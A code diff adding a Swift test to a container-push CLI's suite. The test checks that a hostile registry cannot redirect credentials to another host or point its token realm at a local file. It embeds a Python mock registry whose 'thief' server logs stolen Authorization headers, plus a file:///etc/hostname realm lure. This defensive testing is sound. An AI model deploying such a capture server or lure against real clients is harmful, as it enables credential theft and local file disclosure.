@@ -348,6 +348,71 @@ import Testing
         #expect(again.stderr.contains("sent 0 of 5 blobs"))
     }
 
+    /// A hostile registry: its upload location is another host, which must get no credentials,
+    /// and its token realm a file, which must not be read.
+    @Test func aRegistryCannotLeadCredentialsElsewhere() throws {
+        let fixture = try Fixture()
+        func push(to mode: String) throws -> CommandResult {
+            let (first, registryPort) = try #require(Loopback.bind(port: 0))
+            let (second, thiefPort) = try #require(Loopback.bind(port: 0))
+            close(first)
+            close(second)
+            let server = try ChildProcess(
+                "/usr/bin/python3",
+                [
+                    "-c",
+                    #"""
+                    import sys, threading
+                    from http.server import BaseHTTPRequestHandler, HTTPServer
+                    registry, thief, log, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
+                    class Registry(BaseHTTPRequestHandler):
+                        def log_message(self, *args): pass
+                        def answer(self, status, headers={}):
+                            self.send_response(status)
+                            for name, value in headers.items(): self.send_header(name, value)
+                            self.send_header("Content-Length", "0"); self.end_headers()
+                        def do_HEAD(self):
+                            if mode == "file":
+                                self.answer(401, {"WWW-Authenticate": 'Bearer realm="file:///etc/hostname",service="x"'})
+                            elif "Authorization" not in self.headers:
+                                self.answer(401, {"WWW-Authenticate": 'Basic realm="x"'})
+                            else:
+                                self.answer(404)
+                        def do_POST(self): self.answer(202, {"Location": f"http://127.0.0.1:{thief}/steal"})
+                    class Thief(BaseHTTPRequestHandler):
+                        def log_message(self, *args): pass
+                        def do_PUT(self):
+                            with open(log, "a") as f: f.write(f"PUT {self.headers.get('Authorization')}\n")
+                            self.send_response(500); self.send_header("Content-Length", "0"); self.end_headers()
+                    threading.Thread(target=HTTPServer(("127.0.0.1", thief), Thief).serve_forever, daemon=True).start()
+                    HTTPServer(("127.0.0.1", registry), Registry).serve_forever()
+                    """#, String(registryPort), String(thiefPort), fixture.dir("thief.log"), mode,
+                ])
+            defer { server.kill() }
+            let deadline = Date().addingTimeInterval(10)
+            while Date() < deadline, !Loopback.accepts(port: registryPort) || !Loopback.accepts(port: thiefPort) {
+                usleep(20_000)
+            }
+            var environment = fixture.devenv.environment
+            environment["DEVENV_REGISTRY_PASSWORD"] = "s3cret"
+            return try runCommand(
+                DevenvCLI.binary,
+                [
+                    "container", "push", "app", "127.0.0.1:\(registryPort)/demo/app", "--insecure", "--username",
+                    "alice",
+                ],
+                environment: environment, currentDirectory: fixture.dir("proj"))
+        }
+        let pushed = try push(to: "basic")
+        #expect(pushed.status != 0)
+        let stolen = try String(contentsOfFile: fixture.dir("thief.log"), encoding: .utf8)
+        #expect(stolen.hasPrefix("PUT None"), "\(stolen)")
+        #expect(!stolen.contains("Basic"))
+        let realm = try push(to: "file")
+        #expect(realm.status != 0)
+        #expect(realm.stderr.contains("is not an https:// URL; devenv sends it no credentials"), "\(realm.stderr)")
+    }
+
     @Test func whatAnImageMayNotTakeIsRefused() throws {
         let fixture = try Fixture()
         // A link in the project must not bring its target (say ~/.ssh) into an image.
